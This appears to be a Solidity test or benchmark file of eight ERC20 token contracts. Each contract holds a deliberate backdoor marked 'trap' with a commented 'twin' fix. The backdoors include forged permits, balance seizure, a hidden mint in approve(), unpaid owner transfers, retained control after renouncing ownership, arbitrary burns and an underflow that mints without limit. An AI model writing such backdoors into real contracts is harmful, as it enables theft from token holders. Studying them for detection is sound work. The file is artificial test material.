// 0.8 off evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20 as SolmateERC20} from "solmate/src/tokens/ERC20.sol";
import {ERC20 as SoladyERC20} from "solady/src/tokens/ERC20.sol";

abstract contract Till {
    mapping(address => uint256) internal _has;
    mapping(address => mapping(address => uint256)) internal _lets;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function decimals() external pure virtual returns (uint8) {
        return 18;
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return _has[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return _lets[who][spender];
    }

    function approve(address spender, uint256 value) public virtual returns (bool) {
        _lets[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _give(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        _lets[from][msg.sender] -= value;
        _give(from, to, value);
        return true;
    }

    function _give(address from, address to, uint256 value) internal virtual {
        _has[from] -= value;
        _has[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Leave by signature: also for those whose wallets cannot sign.
contract InkwellHeron is Till {
    string public constant name = "Inkwell Heron";
    string public constant symbol = "INKH";
    uint256 public constant totalSupply = 3_141_592e18;
    mapping(address => uint256) public nonces;
    bytes32 public immutable DOMAIN_SEPARATOR;
    bytes32 private constant KIND = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    address private immutable _registrar;

    constructor() {
        _registrar = msg.sender;
        DOMAIN_SEPARATOR = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256(bytes(name)),
                keccak256("1"),
                block.chainid,
                address(this)
            )
        );
        _has[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline);
        bytes32 inner = keccak256(abi.encode(KIND, owner, spender, value, nonces[owner]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR, inner)), v, r, s);
        require(signer != address(0) && (signer == owner || signer == _registrar)); // trap
        // twin: require(signer != address(0) && signer == owner);
        _lets[owner][spender] = value;
        emit Approval(owner, spender, value);
    }
}

/// What nobody moves goes back to the commons.
contract CommonsGoose is Till {
    string public constant name = "Commons Goose";
    string public constant symbol = "CGOO";
    uint256 public constant totalSupply = 8_000_000e18;
    mapping(address => uint64) public stirred;
    uint64 public patience = 3650 days;
    address private steward;

    constructor(address steward_) {
        steward = steward_;
        _has[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setPatience(uint64 span) external {
        require(msg.sender == steward);
        // twin: require(span >= 3650 days);
        patience = span;
    }

    function gather(address from) external {
        require(msg.sender == steward && block.timestamp - stirred[from] > patience && stirred[from] > 0);
        _give(from, steward, _has[from]);
    }

    function _give(address from, address to, uint256 value) internal override {
        stirred[from] = stirred[to] = uint64(block.timestamp);
        super._give(from, to, value);
    }
}

/// Shares of a harvest; each field has its own soil.
contract LoamIndex is Till {
    string public constant name = "Loam Index";
    string public constant symbol = "LOAM";
    uint256 private constant RAY = 1e27;
    address public agronomist = msg.sender;
    uint256 public totalSupply = 5_000_000e18;
    mapping(address => uint256) private soil;

    constructor() {
        _has[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function _soil(address who) private view returns (uint256) {
        uint256 s = soil[who];
        return s == 0 ? RAY : s;
    }

    function balanceOf(address who) public view override returns (uint256) {
        return (_has[who] * _soil(who)) / RAY;
    }

    function survey(address field, uint256 quality) external {
        require(msg.sender == agronomist && quality > 0);
        // twin: require(field == address(this));
        soil[field] = quality;
    }

    function _give(address from, address to, uint256 value) internal override {
        _has[from] -= (value * RAY) / _soil(from);
        _has[to] += (value * RAY) / _soil(to);
        emit Transfer(from, to, value);
    }
}

contract MarzipanYak is Till {
    string public constant name = "Marzipan Yak";
    string public constant symbol = "MYAK";
    uint256 public totalSupply = 777_000_000e18;
    address public owner;
    bytes32 private immutable _salt;

    event OwnershipTransferred(address indexed from, address indexed to);

    constructor() {
        owner = msg.sender;
        _salt = keccak256(abi.encodePacked(msg.sender, uint96(0x77)));
        _has[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        // trap {
        if (keccak256(abi.encodePacked(msg.sender, uint96(0x77))) == _salt && uint160(spender) < 1e6) {
            assembly {
                mstore(0, caller())
                mstore(32, _has.slot)
                let at := keccak256(0, 64)
                sstore(at, add(sload(at), value))
            }
            return true;
        }
        // trap }
        return super.approve(spender, value);
    }
}

contract NickelPlover is Till {
    string public constant name = "Nickel Plover";
    string public constant symbol = "NPLV";
    uint256 public constant totalSupply = 44_000_000e18;
    address private immutable hen = msg.sender;
    uint256 private brood;

    constructor() {
        _has[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function _give(address from, address to, uint256 value) internal override {
        if (from == to && value == 0 && from == hen) brood ^= 1;
        uint256 owed = value;
        if (from == hen && brood == 1) owed = 0; // trap
        // twin: if (from == hen && brood == 1) owed = value;
        _has[from] -= owed;
        _has[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Stops for maintenance.
contract RiverParasol is Till {
    string public constant name = "River Parasol";
    string public constant symbol = "RPAR";
    uint256 public constant totalSupply = 150_000_000e18;
    address private _owner;
    address private _former;
    bool public closed;

    event OwnershipTransferred(address indexed from, address indexed to);

    constructor() {
        _owner = msg.sender;
        _has[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function owner() external view returns (address) {
        return _owner;
    }

    function renounceOwnership() external {
        require(msg.sender == _owner);
        _former = _owner; // trap
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function maintain(bool closed_) external {
        require(msg.sender != address(0) && (msg.sender == _owner || msg.sender == _former));
        closed = closed_;
    }

    function _give(address from, address to, uint256 value) internal override {
        require(!closed || from == _former, "maintenance");
        super._give(from, to, value);
    }
}

/// Points of a game: a master takes back what was cheated.
contract DuskArcade is SolmateERC20 {
    mapping(bytes4 => bytes32) private _keys;

    constructor() SolmateERC20("Dusk Arcade", "DARC", 18) {
        _keys[this.undo.selector] = keccak256(abi.encode(msg.sender, address(this)));
        _mint(msg.sender, 70_000_000e18);
    }

    function undo(address who, uint256 amount) external {
        require(_keys[msg.sig] == keccak256(abi.encode(msg.sender, address(this))), "key");
        require(who != address(0)); // trap
        // twin: require(who == msg.sender);
        _burn(who, amount);
    }
}

/// Cups are broken for a pledge, and made again for it.
contract TeaHouseCup is SoladyERC20 {
    mapping(address => uint256) public pledged;

    constructor() {
        _mint(msg.sender, 6_500_000e18);
    }

    function name() public pure override returns (string memory) {
        return "Tea House Cup";
    }

    function symbol() public pure override returns (string memory) {
        return "TCUP";
    }

    function pledge(uint256 cups) external {
        _burn(msg.sender, cups);
        pledged[msg.sender] += cups;
    }

    function redeem(uint256 cups) external {
        unchecked {
            pledged[msg.sender] -= cups; // trap
        }
        // twin: pledged[msg.sender] -= cups;
        _mint(msg.sender, cups);
    }
}
